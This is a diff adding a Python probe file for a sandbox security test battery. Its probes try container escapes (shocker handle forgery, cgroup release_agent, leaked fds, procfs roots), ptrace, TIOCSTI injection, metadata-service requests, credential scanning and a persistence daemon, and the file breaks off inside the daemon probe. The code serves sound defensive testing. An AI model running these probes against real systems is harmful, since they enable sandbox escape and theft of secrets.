@@ -1,0 +1,997 @@
+"""Probes the security battery runs inside a sandbox: `python3 probes.py NAME 'JSON-ARGS'`.
+
+Stdlib only (it runs on the sandbox's python3). Each probe tries one kind of attack and prints
+one JSON line with what it saw: errno names, bytes it managed to read, counts. It never judges:
+the host decides BLOCKED or BROKEN from its own canaries, because output from inside a possibly
+broken sandbox proves nothing by itself.
+
+Every probe is harmless even where it succeeds, since the positive controls run it with the
+isolation switched off: syscalls get bad arguments (EFAULT/EBADF/EINVAL = reachable), files are
+opened for writing but never written, signals go only to the battery's own canary process, and
+every exhaustion probe stops at a bound.
+"""
+
+from __future__ import annotations
+
+import ctypes
+import errno
+import json
+import os
+import platform
+import signal
+import socket
+import struct
+import sys
+import time
+
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+BAD = 1  # an unmapped, misaligned pointer: the kernel answers EFAULT if it gets that far
+
+
+def ename(e: int) -> str:
+    return errno.errorcode.get(e, str(e))
+
+
+def oserr(e: BaseException) -> str:
+    return ename(e.errno) if isinstance(e, OSError) and e.errno else type(e).__name__
+
+
+# ------------------------------------------------------------------------- syscalls
+
+# name: (x86_64, aarch64)
+NR = {
+    "mount": (165, 40),
+    "umount2": (166, 39),
+    "pivot_root": (155, 41),
+    "chroot": (161, 51),
+    "open_tree": (428, 428),
+    "move_mount": (429, 429),
+    "fsopen": (430, 430),
+    "fsmount": (432, 432),
+    "fspick": (433, 433),
+    "mount_setattr": (442, 442),
+    "unshare": (272, 97),
+    "setns": (308, 268),
+    "ptrace": (101, 117),
+    "process_vm_readv": (310, 270),
+    "process_vm_writev": (311, 271),
+    "kcmp": (312, 272),
+    "pidfd_getfd": (438, 438),
+    "bpf": (321, 280),
+    "perf_event_open": (298, 241),
+    "userfaultfd": (323, 282),
+    "io_uring_setup": (425, 425),
+    "io_uring_enter": (426, 426),
+    "io_uring_register": (427, 427),
+    "keyctl": (250, 219),
+    "add_key": (248, 217),
+    "request_key": (249, 218),
+    "open_by_handle_at": (304, 265),
+    "name_to_handle_at": (303, 264),
+    "init_module": (175, 105),
+    "finit_module": (313, 273),
+    "delete_module": (176, 106),
+    "kexec_load": (246, 104),
+    "kexec_file_load": (320, 294),
+    "reboot": (169, 142),
+    "swapon": (167, 224),
+    "swapoff": (168, 225),
+    "acct": (163, 89),
+    "quotactl": (179, 60),
+    "sethostname": (170, 161),
+    "setdomainname": (171, 162),
+    "settimeofday": (164, 170),
+    "clock_settime": (227, 112),
+    "clock_adjtime": (305, 266),
+    "adjtimex": (159, 171),
+    "syslog": (103, 116),
+    "iopl": (172, None),
+    "ioperm": (173, None),
+    "fanotify_init": (300, 262),
+    "personality": (135, 92),
+    "move_pages": (279, 239),
+    "migrate_pages": (256, 238),
+    "clone3": (435, 435),
+    "vhangup": (153, 58),
+    "lookup_dcookie": (212, 18),
+    "ioctl": (16, 29),
+    "clone": (56, 220),
+}
+
+# Bad arguments per syscall: each call fails early on a pointer or fd check when the kernel
+# lets it through, so a reachable syscall answers EFAULT/EBADF/EINVAL and changes nothing.
+BAD_ARGS: dict[str, tuple[int, ...] | None] = {
+    "mount": (BAD, BAD, BAD, 0, 0),
+    "umount2": (BAD, 0),
+    "pivot_root": (BAD, BAD),
+    "chroot": (BAD,),
+    "open_tree": (-1, BAD, 0),
+    "move_mount": (-1, BAD, -1, BAD, 0),
+    "fsopen": (BAD, 0),
+    "fsmount": (-1, 0, 0),
+    "fspick": (-1, BAD, 0),
+    "mount_setattr": (-1, BAD, 0, BAD, 0),
+    "setns": (-1, 0),
+    "ptrace": (0x4206, 0, 0, 0),  # PTRACE_SEIZE pid 0 -> ESRCH when reachable
+    "process_vm_readv": (0, BAD, 1, BAD, 1, 0),
+    "process_vm_writev": (0, BAD, 1, BAD, 1, 0),
+    "kcmp": (0, 0, 99, 0, 0),
+    "pidfd_getfd": (-1, -1, 0),
+    "bpf": (0, BAD, 16),
+    "perf_event_open": (BAD, 0, -1, -1, 0),
+    "userfaultfd": (0xFFFFFFFF,),  # unknown flags: EINVAL
+    "io_uring_setup": (1, BAD),
+    "io_uring_enter": (-1, 0, 0, 0, 0, 0),
+    "io_uring_register": (-1, 0, 0, 0),
+    "keyctl": (0x7FFF, 0, 0, 0, 0),  # unknown command: EOPNOTSUPP
+    "add_key": (BAD, BAD, 0, 0, 0),
+    "request_key": (BAD, BAD, 0, 0),
+    "open_by_handle_at": (-1, BAD, 0),
+    "name_to_handle_at": (-1, BAD, BAD, BAD, 0),
+    "init_module": (BAD, 0, BAD),
+    "finit_module": (-1, BAD, 0),
+    "delete_module": (BAD, 0),
+    "kexec_load": (0, 0, 0, 0xFFFFFFFF),  # unknown flags: EINVAL
+    "kexec_file_load": (-1, -1, 0, 0, 0xFFFFFFFF),
+    "reboot": (0, 0, 0, 0),  # wrong magic: EINVAL
+    "swapon": (BAD, 0),
+    "swapoff": (BAD,),
+    "acct": (BAD,),
+    "quotactl": (0, BAD, 0, 0),
+    "sethostname": (BAD, 8),
+    "setdomainname": (BAD, 8),
+    "settimeofday": (BAD, 0),
+    "clock_settime": (0, BAD),
+    "clock_adjtime": (0, BAD),
+    "adjtimex": (BAD,),
+    "syslog": (10, 0, 0),  # SYSLOG_ACTION_SIZE_BUFFER: read-only
+    "iopl": (9,),  # level > 3: EINVAL
+    "ioperm": (0, 0, 0),
+    "fanotify_init": (0xFFFFFFFF, 0),
+    "personality": (0x0040000,),  # ADDR_NO_RANDOMIZE, in the throwaway child only
+    "move_pages": (0, 1, BAD, BAD, BAD, 0xFFFFFFFF),
+    "vhangup": None,  # no argument can make it harmless: never called, only filtered
+    "lookup_dcookie": (0, BAD, 0),
+    "clone3": (BAD, 88),
+    "migrate_pages": (0, 1, BAD, BAD),
+}
+
+
+def try_syscall(name: str, args: tuple[int, ...]) -> str:
+    """Run one syscall in a child so a SIGSYS kill cannot take the probe down with it."""
+    col = 0 if platform.machine() == "x86_64" else 1
+    nr = NR[name][col]
+    if nr is None:
+        return "ABSENT"
+    r, w = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        os.close(r)
+        ret = libc.syscall(nr, *[ctypes.c_long(a) for a in args])
+        err = ctypes.get_errno()
+        os.write(w, (f"OK:{ret}" if ret >= 0 else ename(err)).encode())
+        os._exit(0)
+    os.close(w)
+    out = os.read(r, 100).decode()
+    os.close(r)
+    _, status = os.waitpid(pid, 0)
+    if os.WIFSIGNALED(status):
+        return f"SIG{signal.Signals(os.WTERMSIG(status)).name[3:]}"
+    return out or "NO_ANSWER"
+
+
+def probe_syscalls(names: list[str]) -> dict:
+    out = {}
+    for name in names:
+        args = BAD_ARGS.get(name)
+        out[name] = "SKIPPED" if args is None else try_syscall(name, args)
+    return {"results": out}
+
+
+def probe_ns_create() -> dict:
+    """New namespaces through unshare(2) and clone(2) flags; the child exits at once."""
+    col = 0 if platform.machine() == "x86_64" else 1
+    out = {}
+    for label, flag in (("user", 0x10000000), ("mount", 0x00020000), ("net", 0x40000000)):
+        out[f"unshare_{label}"] = try_syscall_fn(lambda f=flag: libc.syscall(NR["unshare"][col], f))
+    # clone(CLONE_NEWUSER|SIGCHLD) through fork-like raw clone: the child _exits immediately.
+    out["clone_newuser"] = try_syscall_fn(
+        lambda: _raw_clone(col, 0x10000000 | signal.SIGCHLD), reap=True
+    )
+    out["unshare_cli"] = _run(["unshare", "-Ur", "true"])
+    return {"results": out}
+
+
+def _raw_clone(col: int, flags: int) -> int:
+    ret = libc.syscall(NR["clone"][col], ctypes.c_long(flags), 0, 0, 0, 0)
+    if ret == 0:
+        os._exit(0)
+    return ret
+
+
+def try_syscall_fn(fn, reap: bool = False) -> str:
+    r, w = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        os.close(r)
+        ret = fn()
+        err = ctypes.get_errno()
+        if reap and ret > 0:
+            os.waitpid(ret, 0)
+        os.write(w, (f"OK:{ret}" if ret >= 0 else ename(err)).encode())
+        os._exit(0)
+    os.close(w)
+    out = os.read(r, 100).decode()
+    os.close(r)
+    _, status = os.waitpid(pid, 0)
+    if os.WIFSIGNALED(status):
+        return f"SIG{signal.Signals(os.WTERMSIG(status)).name[3:]}"
+    return out or "NO_ANSWER"
+
+
+def _run(argv: list[str]) -> str:
+    import subprocess
+
+    try:
+        p = subprocess.run(argv, capture_output=True, timeout=10)
+    except (OSError, subprocess.TimeoutExpired) as e:
+        return oserr(e)
+    return "OK" if p.returncode == 0 else f"exit {p.returncode}: {p.stderr[-200:].decode()}"
+
+
+# ------------------------------------------------------------------------- files
+
+
+def read_some(path: str, limit: int = 65536) -> str:
+    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
+    try:
+        return os.read(fd, limit).decode("utf-8", "replace")
+    finally:
+        os.close(fd)
+
+
+def probe_read(paths: list[str]) -> dict:
+    out = {}
+    for p in paths:
+        try:
+            out[p] = "DATA:" + read_some(p)
+        except OSError as e:
+            out[p] = oserr(e)
+    return {"results": out}
+
+
+def probe_proc_roots(rel: str) -> dict:
+    """Reach the host through procfs links of every process the sandbox can see."""
+    out = {}
+    for pid in sorted(os.listdir("/proc")):
+        if not pid.isdigit():
+            continue
+        for link in ("root", "cwd"):
+            p = f"/proc/{pid}/{link}/{rel.lstrip('/')}"
+            try:
+                out[p] = "DATA:" + read_some(p)
+            except OSError as e:
+                out[p] = oserr(e)
+    for p in (f"/proc/self/root/../../..{rel}", f"/proc/1/root/../../{rel.lstrip('/')}"):
+        try:
+            out[p] = "DATA:" + read_some(p)
+        except OSError as e:
+            out[p] = oserr(e)
+    return {"results": out}
+
+
+class FileHandle(ctypes.Structure):
+    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("f", ctypes.c_ubyte * 8)]
+
+
+def probe_shocker(rel: str) -> dict:
+    """CVE-2014 'shocker': open_by_handle_at with a forged handle for the root inode of the
+    filesystem behind a read-only bind, then walk to the host canary."""
+    col = 0 if platform.machine() == "x86_64" else 1
+    out = {}
+    for mnt in ("/etc", "/usr", "/workspace", "/opt/agentbox"):
+        try:
+            mfd = os.open(mnt, os.O_RDONLY | os.O_DIRECTORY)
+        except OSError as e:
+            out[mnt] = oserr(e)
+            continue
+        h = FileHandle(8, 1)  # FILEID_INO32_GEN: inode 2 (ext4 root), generation 0
+        struct.pack_into("<II", h.f, 0, 2, 0)
+        fd = libc.syscall(
+            NR["open_by_handle_at"][col], mfd, ctypes.byref(h), os.O_RDONLY | os.O_DIRECTORY
+        )
+        err = ctypes.get_errno()
+        os.close(mfd)
+        if fd < 0:
+            out[mnt] = ename(err)
+            continue
+        try:
+            cfd = os.open(rel.lstrip("/"), os.O_RDONLY, dir_fd=fd)
+            out[mnt] = "DATA:" + os.read(cfd, 65536).decode("utf-8", "replace")
+            os.close(cfd)
+        except OSError as e:
+            out[mnt] = "ROOT_OPENED:" + oserr(e)
+        finally:
+            os.close(fd)
+    return {"results": out}
+
+
+def probe_write(targets: list[str], nonce: str) -> dict:
+    """Create, rename, chmod, hard-link, symlink and truncate at each target directory."""
+    out = {}
+    for d in targets:
+        base = os.path.join(d, f"abx-{nonce}")
+        for op, fn in (
+            ("create", lambda b=base: os.close(os.open(b, os.O_CREAT | os.O_WRONLY, 0o644))),
+            ("mkdir", lambda b=base: os.mkdir(b + ".d")),
+            ("symlink", lambda b=base: os.symlink("/", b + ".l")),
+            ("link", lambda b=base: os.link("/etc/hostname", b + ".h")),
+            ("rename", lambda b=base: os.rename(b, b + ".r")),
+        ):
+            try:
+                fn()
+                out[f"{d}:{op}"] = "OK"
+            except OSError as e:
+                out[f"{d}:{op}"] = oserr(e)
+    return {"results": out}
+
+
+def probe_write_existing(paths: list[str]) -> dict:
+    """Modify existing files: chmod, append, utime. Positive controls run this as host root
+    without isolation, so it only ever touches the battery's own files (canaries, the data
+    dir's agent copy) and refuses anything else."""
+    out = {}
+    for p in paths:
+        if "agentbox" not in p:
+            out[p] = "REFUSED_BY_PROBE"
+            continue
+        for op, fn in (
+            ("chmod", lambda p=p: os.chmod(p, 0o600)),
+            ("append", lambda p=p: _append(p)),
+            ("utime", lambda p=p: os.utime(p, (0, 0))),
+        ):
+            try:
+                fn()
+                out[f"{p}:{op}"] = "OK"
+            except OSError as e:
+                out[f"{p}:{op}"] = oserr(e)
+    return {"results": out}
+
+
+def _append(p: str) -> None:
+    fd = os.open(p, os.O_WRONLY | os.O_APPEND)
+    try:
+        os.write(fd, b"PWNED\n")
+    finally:
+        os.close(fd)
+
+
+def probe_open_wr(paths: list[str]) -> dict:
+    """Zero-byte open-for-write (linPEAS style): opening changes nothing, writing would."""
+    out = {}
+    for p in paths:
+        try:
+            os.close(os.open(p, os.O_WRONLY | os.O_NONBLOCK))
+            out[p] = "OPENED"
+        except OSError as e:
+            out[p] = oserr(e)
+    return {"results": out}
+
+
+def probe_cgroup_escape(nonce: str) -> dict:
+    """CVE-2022-0492: mount a v1 hierarchy and reach release_agent; write parent cgroup.procs."""
+    out = {}
+    target = f"/tmp/cg-{nonce}"
+    os.makedirs(target, exist_ok=True)
+    for opts in ("rdma", "memory", "pids", "none,name=abx"):
+        ret = libc.mount(b"cgroup", target.encode(), b"cgroup", 0, opts.encode())
+        if ret != 0:
+            out[f"mount {opts}"] = ename(ctypes.get_errno())
+            continue
+        out[f"mount {opts}"] = "MOUNTED"
+        try:
+            os.close(os.open(f"{target}/release_agent", os.O_WRONLY))
+            out[f"{opts} release_agent"] = "OPENED"
+        except OSError as e:
+            out[f"{opts} release_agent"] = oserr(e)
+        libc.umount2(target.encode(), 2)
+    for root, _dirs, files in _walk("/sys/fs/cgroup", 3):
+        for f in files:
+            if f in ("release_agent", "cgroup.procs", "notify_on_release"):
+                p = os.path.join(root, f)
+                try:
+                    os.close(os.open(p, os.O_WRONLY))
+                    out[p] = "OPENED"
+                except OSError as e:
+                    out[p] = oserr(e)
+    return {"results": out}
+
+
+def _walk(top: str, depth: int):
+    if depth < 0 or not os.path.isdir(top):
+        return
+    try:
+        names = os.listdir(top)
+    except OSError:
+        return
+    dirs = [n for n in names if os.path.isdir(os.path.join(top, n))]
+    yield top, dirs, [n for n in names if n not in dirs]
+    for d in dirs:
+        yield from _walk(os.path.join(top, d), depth - 1)
+
+
+def probe_masked(paths: list[str]) -> dict:
+    """Kernel information that must be masked: report what could be read, not the data."""
+    out = {}
+    for p in paths:
+        try:
+            if os.path.isdir(p):
+                out[p] = f"LISTED:{len(os.listdir(p))}"
+                continue
+            data = read_some(p, 4096)
+            if p.endswith("kallsyms"):
+                addrs = {line.split(" ", 1)[0] for line in data.splitlines()[:200]}
+                out[p] = "ZEROED" if addrs <= {"0000000000000000"} else "ADDRESSES"
+            else:
+                out[p] = f"READ:{len(data)}"
+        except OSError as e:
+            out[p] = oserr(e)
+    n = libc.klogctl(3, ctypes.create_string_buffer(256), 256)  # SYSLOG_ACTION_READ_ALL
+    out["dmesg"] = f"READ:{n}" if n > 0 else ename(ctypes.get_errno()) if n < 0 else "EMPTY"
+    return {"results": out}
+
+
+def probe_devices(nonce: str) -> dict:
+    out: dict = {"dev": sorted(os.listdir("/dev"))}
+    for p in (
+        "/dev/mem",
+        "/dev/kmem",
+        "/dev/port",
+        "/dev/kmsg",
+        "/dev/vda",
+        "/dev/sda",
+        "/dev/kvm",
+        "/dev/loop-control",
+        "/dev/vsock",
+        "/dev/net/tun",
+        "/dev/fuse",
+    ):
+        try:
+            os.close(os.open(p, os.O_RDONLY | os.O_NONBLOCK))
+            out[p] = "OPENED"
+        except OSError as e:
+            out[p] = oserr(e)
+    node = f"/tmp/abx-node-{nonce}"
+    try:
+        os.mknod(node, 0o600 | 0o020000, os.makedev(1, 1))  # char 1:1 = /dev/mem
+        out["mknod"] = "OK"
+        try:
+            os.close(os.open(node, os.O_RDONLY))
+            out["mknod_open"] = "OPENED"
+        except OSError as e:
+            out["mknod_open"] = oserr(e)
+        os.unlink(node)
+    except OSError as e:
+        out["mknod"] = oserr(e)
+    return out
+
+
+def probe_fds(rel: str) -> dict:
+    """Inherited descriptors (CVE-2024-21626): only 0-2; a directory fd would reach the host."""
+    out = {}
+    names = os.listdir("/proc/self/fd")
+    for name in names:
+        fd = int(name)
+        try:
+            os.fstat(fd)
+        except OSError:
+            continue  # the fd listdir itself used, closed by now
+        try:
+            target = os.readlink(f"/proc/self/fd/{fd}")
+        except OSError as e:
+            target = oserr(e)
+        entry = {"target": target}
+        try:
+            entry["canary"] = "DATA:" + _read_at(fd, rel.lstrip("/"))
+        except OSError as e:
+            entry["canary"] = oserr(e)
+        out[str(fd)] = entry
+    return {"fds": out}
+
+
+def _read_at(dfd: int, rel: str) -> str:
+    fd = os.open(rel, os.O_RDONLY, dir_fd=dfd)
+    try:
+        return os.read(fd, 65536).decode("utf-8", "replace")
+    finally:
+        os.close(fd)
+
+
+def probe_status(threads: int) -> dict:
+    """/proc/self/status of every thread, after starting a few more threads."""
+    import threading
+
+    stop = threading.Event()
+    ts = [threading.Thread(target=stop.wait) for _ in range(threads)]
+    for t in ts:
+        t.start()
+    keys = ("Uid", "Gid", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs")
+    out = {}
+    try:
+        for tid in os.listdir("/proc/self/task"):
+            fields = {}
+            with open(f"/proc/self/task/{tid}/status") as f:
+                for line in f:
+                    k, _, v = line.partition(":")
+                    if k in (*keys, "Seccomp"):
+                        fields[k] = v.strip()
+            out[tid] = fields
+    finally:
+        stop.set()
+        for t in ts:
+            t.join()
+    setuid = []
+    for d in ("/usr/bin", "/usr/sbin"):
+        for n in os.listdir(d):
+            try:
+                if os.stat(os.path.join(d, n)).st_mode & 0o4000:
+                    setuid.append(os.path.join(d, n))
+            except OSError:
+                pass
+    return {"threads": out, "setuid_binaries": setuid[:20]}
+
+
+def probe_pids() -> dict:
+    seen = []
+    for pid in os.listdir("/proc"):
+        if pid.isdigit():
+            try:
+                with open(f"/proc/{pid}/cmdline", "rb") as f:
+                    cmd = f.read().replace(b"\0", b" ").decode("utf-8", "replace")
+            except OSError:
+                continue
+            seen.append(f"{pid}:{cmd[:200]}")
+    return {"count": len(seen), "processes": seen}
+
+
+def probe_ptrace(pid: int) -> dict:
+    col = 0 if platform.machine() == "x86_64" else 1
+    out = {}
+    ret = libc.syscall(NR["ptrace"][col], 16, pid, 0, 0)  # PTRACE_ATTACH
+    out["attach"] = "OK" if ret == 0 else ename(ctypes.get_errno())
+    if ret == 0:
+        time.sleep(0.05)  # the tracee stops; detaching lets it run on untouched
+        libc.syscall(NR["ptrace"][col], 17, pid, 0, 0)  # PTRACE_DETACH
+    iov_buf = ctypes.create_string_buffer(8)
+    local = (ctypes.c_void_p * 2)(ctypes.cast(iov_buf, ctypes.c_void_p), 8)
+    remote = (ctypes.c_void_p * 2)(0x400000, 8)
+    ret = libc.syscall(NR["process_vm_readv"][col], pid, local, 1, remote, 1, 0)
+    out["process_vm_readv"] = "OK" if ret >= 0 else ename(ctypes.get_errno())
+    try:
+        out["environ"] = "DATA:" + read_some(f"/proc/{pid}/environ")
+    except OSError as e:
+        out["environ"] = oserr(e)
+    return out
+
+
+def probe_kill(pid: int) -> dict:
+    try:
+        os.kill(pid, signal.SIGUSR1)
+        return {"kill": "OK"}
+    except OSError as e:
+        return {"kill": oserr(e)}
+
+
+def probe_tty() -> dict:
+    import fcntl
+    import termios
+
+    out = {}
+    try:
+        m = os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
+        libc.unlockpt(m)
+        libc.ptsname.restype = ctypes.c_char_p
+        s = os.open(libc.ptsname(m).decode(), os.O_RDWR | os.O_NOCTTY)
+    except OSError as e:
+        return {"pty": oserr(e)}
+    col = 0 if platform.machine() == "x86_64" else 1
+    c = ctypes.c_char(b"x")
+    for label, req in (("TIOCSTI", termios.TIOCSTI), ("TIOCSTI_64bit", 0x100000000 | 0x5412)):
+        ret = libc.syscall(NR["ioctl"][col], s, ctypes.c_ulong(req), ctypes.byref(c))
+        out[label] = "OK" if ret == 0 else ename(ctypes.get_errno())
+    try:
+        fcntl.ioctl(s, 0x541C, b"\x0b")  # TIOCLINUX
+        out["TIOCLINUX"] = "OK"
+    except OSError as e:
+        out["TIOCLINUX"] = oserr(e)
+    os.close(s)
+    os.close(m)
+    return out
+
+
+def probe_identity(nonce: str) -> dict:
+    col = 0 if platform.machine() == "x86_64" else 1
+    out = {}
+    host = f"abx-{nonce[:8]}".encode()
+    ret = libc.syscall(NR["sethostname"][col], host, len(host))
+    out["sethostname"] = "OK" if ret == 0 else ename(ctypes.get_errno())
+    for name in ("settimeofday", "clock_settime", "adjtimex"):
+        out[name] = try_syscall(name, BAD_ARGS[name] or ())
+    out["uname"] = " ".join(os.uname())
+    return out
+
+
+# ------------------------------------------------------------------------- network
+
+
+def probe_interfaces() -> dict:
+    import subprocess
+
+    try:
+        text = subprocess.run(["ip", "-o", "addr"], capture_output=True, text=True).stdout
+    except OSError:
+        text = ""
+    addrs = [w[3].split("/")[0] for w in (ln.split() for ln in text.splitlines()) if len(w) > 3]
+    return {"interfaces": [n for _, n in socket.if_nameindex()], "addresses": addrs}
+
+
+def probe_connect(targets: list, payload: str) -> dict:
+    """TCP connect and UDP send to each (proto, host, port); a hit is judged by the host."""
+    out = {}
+    for proto, host, port in targets:
+        fam = socket.AF_INET6 if ":" in host else socket.AF_INET
+        kind = socket.SOCK_STREAM if proto == "tcp" else socket.SOCK_DGRAM
+        key = f"{proto}:{host}:{port}"
+        try:
+            with socket.socket(fam, kind) as s:
+                s.settimeout(1.5)
+                if proto == "tcp":
+                    s.connect((host, port))
+                    s.sendall(payload.encode())
+                    out[key] = "CONNECTED"
+                else:
+                    s.sendto(payload.encode(), (host, port))
+                    out[key] = "SENT"
+        except OSError as e:
+            out[key] = oserr(e)
+    return {"results": out}
+
+
+def probe_http(urls: list[str]) -> dict:
+    """Plain HTTP GETs with a raw socket (no proxy variables involved)."""
+    out = {}
+    for url in urls:
+        hostport = url.split("//", 1)[1].split("/", 1)[0]
+        host, _, port = hostport.rpartition(":") if hostport.count(":") == 1 else (hostport, 0, 80)
+        if hostport.startswith("["):
+            host, port = hostport[1:].split("]")[0], 80
+        try:
+            with socket.create_connection((host, int(port or 80)), timeout=2) as s:
+                s.sendall(f"GET /latest/meta-data/ HTTP/1.0\r\nHost: {hostport}\r\n\r\n".encode())
+                out[url] = "ANSWER:" + s.recv(200).decode("utf-8", "replace")
+        except OSError as e:
+            out[url] = oserr(e)
+    return {"results": out}
+
+
+def _dns_query(name: str, qtype: int = 1) -> bytes:
+    q = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
+    return struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + q + struct.pack(">HH", qtype, 1)
+
+
+def probe_dns(names: list[str], resolvers: list[str]) -> dict:
+    out = {}
+    for n in names:
+        try:
+            socket.getaddrinfo(n, 80)
+            out[f"getaddrinfo {n}"] = "RESOLVED"
+        except OSError as e:
+            out[f"getaddrinfo {n}"] = oserr(e)
+    with open("/etc/resolv.conf") as f:
+        conf = [line.split()[1] for line in f if line.startswith("nameserver")]
+    for r in dict.fromkeys(conf + resolvers):
+        fam = socket.AF_INET6 if ":" in r else socket.AF_INET
+        for qtype, label in ((1, "A"), (16, "TXT")):
+            try:
+                with socket.socket(fam, socket.SOCK_DGRAM) as s:
+                    s.settimeout(1)
+                    s.sendto(_dns_query(names[0], qtype), (r, 53))
+                    s.recv(512)
+                    out[f"udp {r} {label}"] = "ANSWERED"
+            except OSError as e:
+                out[f"udp {r} {label}"] = oserr(e)
+        try:
+            with socket.create_connection((r, 53), timeout=1) as s:
+                q = _dns_query(names[0])
+                s.sendall(struct.pack(">H", len(q)) + q)
+                out[f"tcp {r}"] = "CONNECTED"
+        except OSError as e:
+            out[f"tcp {r}"] = oserr(e)
+    return {"results": out}
+
+
+def probe_abstract(sock: str) -> dict:
+    try:
+        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
+            s.settimeout(1)
+            s.connect("\0" + sock)
+            s.sendall(b"hello from a sandbox")
+            return {"connect": "CONNECTED"}
+    except OSError as e:
+        return {"connect": oserr(e)}
+
+
+def probe_sockets() -> dict:
+    out: dict = {}
+    for label, args in (
+        ("AF_PACKET raw", (socket.AF_PACKET, socket.SOCK_RAW, 0)),
+        ("AF_INET raw icmp", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
+        ("AF_INET6 raw", (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)),
+        ("AF_VSOCK stream", (40, socket.SOCK_STREAM, 0)),
+        ("AF_ALG seqpacket", (38, socket.SOCK_SEQPACKET, 0)),
+    ):
+        try:
+            socket.socket(*args).close()
+            out[label] = "OPENED"
+        except OSError as e:
+            out[label] = oserr(e)
+    out["ip link add"] = _run(["ip", "link", "add", "abx0", "type", "dummy"])
+    out["ip addr add"] = _run(["ip", "addr", "add", "10.99.0.1/32", "dev", "lo"])
+    fams = {}
+    for fam in range(1, 46):
+        if fam in (1, 2, 10, 16):  # unix, inet, inet6, netlink: the ones a userland needs
+            continue
+        try:
+            socket.socket(fam, socket.SOCK_DGRAM, 0).close()
+            fams[fam] = "OPENED"
+        except OSError as e:
+            fams[fam] = oserr(e)
+    out["families"] = fams
+    return out
+
+
+# ------------------------------------------------------------------------- cross-sandbox
+
+
+def probe_plant(nonce: str, port: int) -> dict:
+    """Leave things a neighbour might find: files, a listener, SysV IPC, an abstract socket."""
+    import threading
+
+    for d in ("/tmp", "/dev/shm", os.environ.get("HOME", "/workspace")):
+        try:
+            with open(f"{d}/abx-plant-{nonce}", "w") as f:
+                f.write(f"PLANT-{nonce}")
+        except OSError:
+            pass
+    key = int(nonce[:7], 16)
+    libc.shmget(key, 4096, 0o1666)  # IPC_CREAT | 0666
+    libc.msgget(key, 0o1666)
+    libc.semget(key, 1, 0o1666)
+    tcp = socket.socket()
+    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    tcp.bind(("127.0.0.1", port))
+    tcp.listen(8)
+    ab = socket.socket(socket.AF_UNIX)
+    ab.bind(f"\0abx-plant-{nonce}")
+    ab.listen(8)
+    hits = []
+
+    def accept(s):
+        while True:
+            c, _ = s.accept()
+            hits.append(c.recv(100).decode("utf-8", "replace"))
+            c.close()
+
+    for s in (tcp, ab):
+        threading.Thread(target=accept, args=(s,), daemon=True).start()
+    signal.signal(signal.SIGUSR1, lambda *_: hits.append("SIGUSR1"))
+    with open("/tmp/abx-plant.pid", "w") as f:
+        f.write(str(os.getpid()))
+    print(json.dumps({"planted": True, "pid": os.getpid()}), flush=True)
+    end = time.monotonic() + 60
+    while time.monotonic() < end:
+        time.sleep(0.1)
+        if hits:
+            print(json.dumps({"hit": hits.pop()}), flush=True)
+    return {"done": True}
+
+
+def probe_find(nonce: str, port: int, pid: int) -> dict:
+    out: dict = {}
+    for d in ("/tmp", "/dev/shm", "/workspace", "/var/tmp", "/run"):
+        try:
+            found = [n for n in os.listdir(d) if nonce in n]
+            out[f"ls {d}"] = found
+            for n in found:
+                out[f"read {d}/{n}"] = "DATA:" + read_some(f"{d}/{n}")
+        except OSError as e:
+            out[f"ls {d}"] = oserr(e)
+    key = int(nonce[:7], 16)
+    for label, fn in (
+        ("shmget", lambda: libc.shmget(key, 0, 0)),
+        ("msgget", lambda: libc.msgget(key, 0)),
+        ("semget", lambda: libc.semget(key, 0, 0)),
+    ):
+        ret = fn()
+        out[label] = "FOUND" if ret >= 0 else ename(ctypes.get_errno())
+    out.update(probe_connect([("tcp", "127.0.0.1", port)], f"NEIGHBOUR-{nonce}")["results"])
+    out["abstract"] = probe_abstract(f"abx-plant-{nonce}")["connect"]
+    if pid > 0:
+        out["kill"] = probe_kill(pid)["kill"]
+    return {"results": out}
+
+
+def probe_scan_secrets(patterns: list[str]) -> dict:
+    """Search everything a process can see for credential-shaped strings; print only matches
+    (the host compares them with the secrets it holds)."""
+    import re
+
+    rx = re.compile("|".join(patterns).encode())
+    found: dict[str, list[str]] = {}
+
+    def scan(where: str, data: bytes) -> None:
+        for m in rx.finditer(data):
+            hits = found.setdefault(m.group().decode("ascii", "replace"), [])
+            if len(hits) < 3:
+                hits.append(where)
+
+    scan("env", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
+    for pid in os.listdir("/proc"):
+        if pid.isdigit():
+            for f in ("environ", "cmdline"):
+                try:
+                    with open(f"/proc/{pid}/{f}", "rb") as fh:
+                        scan(f"/proc/{pid}/{f}", fh.read(1 << 20))
+                except OSError:
+                    pass
+    budget, deadline = 2000, time.monotonic() + 40
+    for top in ("/opt", "/run", "/var", "/root", "/home", "/etc", "/workspace", "/tmp", "/srv"):
+        for root, _dirs, names in _walk(top, 5):
+            for n in names:
+                budget -= 1
+                if budget < 0 or time.monotonic() > deadline:
+                    break
+                p = os.path.join(root, n)
+                try:
+                    if os.path.isfile(p):
+                        with open(p, "rb") as fh:
+                            scan(p, fh.read(1 << 16))
+                except OSError:
+                    pass
+    return {"matches": found, "files_left": budget}
+
+
+# ------------------------------------------------------------------------- persistence
+
+
+def probe_daemon(path: str, nonce: str) -> dict:
+    """Double fork + setsid + ignore SIGHUP, then hold an exclusive flock forever."""
+    import fcntl
+
+    r, w = os.pipe()
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            signal.signal(signal.SIGHUP, signal.SIG_IGN)
+            fd = os.open(path, os.O_CREAT | os.O_RDWR, 0o644)
+            fcntl.flock(fd, fcntl.LOCK_EX)
+            sys.argv[0] = f"abx-daemon-{nonce}"
+            os.write(w, str(os.getpid()).encode())
+            os.close(w)
+            for n in range(3):
+                os.close(n)
+            while True:
+                time.sleep(3600)
+        os._exit(0)
